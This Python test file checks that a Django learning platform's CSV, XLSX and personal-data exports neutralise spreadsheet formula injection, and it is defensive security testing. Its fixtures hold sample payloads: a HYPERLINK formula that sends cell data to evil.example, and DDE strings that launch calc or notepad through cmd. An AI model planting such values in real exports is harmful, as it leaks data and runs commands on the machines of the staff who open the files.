"""Issue 9: spreadsheet formula injection. A name, business, e-mail, session title or cohort
name that starts with = + - @ (or a tab or carriage return) would run as a formula when
staff open the CSV or XLSX export in Excel, LibreOffice or Google Sheets. Every export
neutralises such cells with a leading apostrophe, and nothing else changes in them."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cohorts.models import Attendance
from cohorts.services.exports import neutralise
from tests.security.helpers import client_for, consume
from ukmlearn.privacy.services import export_build
from ukmlearn.users.models import BusinessProfile, User

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NAME = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
BUSINESS = "+SUM(1+1)*cmd|' /C calc'!A0"
CITY = "@SUM(1+1)"
EMAIL = "=1+1@example.com"
TITLE = "-2+3+cmd|' /C notepad'!A1"
MENTOR = "\t=1+1"
COHORT = "\r=1+1 Angkatan"
FORMULAS = [NAME, BUSINESS, CITY, EMAIL, TITLE, MENTOR, COHORT]


@pytest.fixture
def formulas(world, learner, mentor, staff):
    User.objects.filter(pk=learner.user.pk).update(name=NAME, email=EMAIL)
    User.objects.filter(pk=mentor.user.pk).update(name=MENTOR)
    BusinessProfile.objects.filter(user=learner.user).update(business_name=BUSINESS, city=CITY)
    world.session.title = TITLE
    world.session.save()
    Attendance.objects.create(
        session=world.session, user=learner.user, method=Attendance.Method.STAFF
    )
    world.cohort.name = COHORT
    world.cohort.save()
    return world


def csv_cells(response) -> list[str]:
    text = consume(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(consume(response)))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_neutralised(cells: list[str], expected: list[str], what: str):
    for cell in cells:
        assert not cell.startswith(TRIGGERS), f"{what}: a cell would run as a formula: {cell!r}"
    for text in expected:
        assert "'" + text in cells, f"{what}: {text!r} is not kept (behind an apostrophe)"


EXPORTS = {
    "roster": (
        lambda w: reverse("cohorts:export_roster", args=[w.cohort.pk]),
        [NAME, BUSINESS, CITY, EMAIL],
    ),
    "attendance": (
        lambda w: reverse("cohorts:export_attendance", args=[w.cohort.pk]),
        [TITLE, NAME],
    ),
    "mentoring": (
        lambda w: reverse("mentoring:cohort_mentoring_export", args=[w.cohort.pk]),
        [MENTOR, NAME],
    ),
    "outcome report": (lambda w: reverse("outcomes:report_export"), [COHORT]),
}


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_a_csv_export_neutralises_cells_that_would_run_as_formulas(export, formulas, staff):
    url, expected = EXPORTS[export]

    response = staff.client.get(url(formulas))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert_neutralised(csv_cells(response), expected, f"{export} CSV")


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_an_xlsx_export_holds_no_formula(export, formulas, staff):
    url, expected = EXPORTS[export]

    response = staff.client.get(url(formulas), {"format": "xlsx"})

    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert cells
    for cell in cells:
        assert cell.data_type != "f", f"{export} XLSX: {cell.coordinate} is a formula"
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    # XML keeps no carriage return: a stored "\r" reads back as "\n".
    expected = [text.replace("\r", "\n") for text in expected]
    assert_neutralised(texts, expected, f"{export} XLSX")


def test_the_outcome_report_export_for_a_partner_is_neutralised_too(formulas, partner):
    response = client_for(partner.user).get(reverse("outcomes:report_export"))

    assert response.status_code == 200
    assert_neutralised(csv_cells(response), [COHORT], "partner's outcome report CSV")


def test_the_personal_data_download_neutralises_formulas(formulas, learner):
    archive = zipfile.ZipFile(io.BytesIO(export_build(learner.user)))
    cells = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8-sig")
            cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    assert_neutralised(cells, [NAME, BUSINESS, CITY, EMAIL], "my-data CSV")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Siti = Aminah", "Siti = Aminah"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (2.5, 2.5),
    ],
)
def test_neutralise_prefixes_only_text_a_spreadsheet_would_run(value, expected):
    assert neutralise(value) == expected
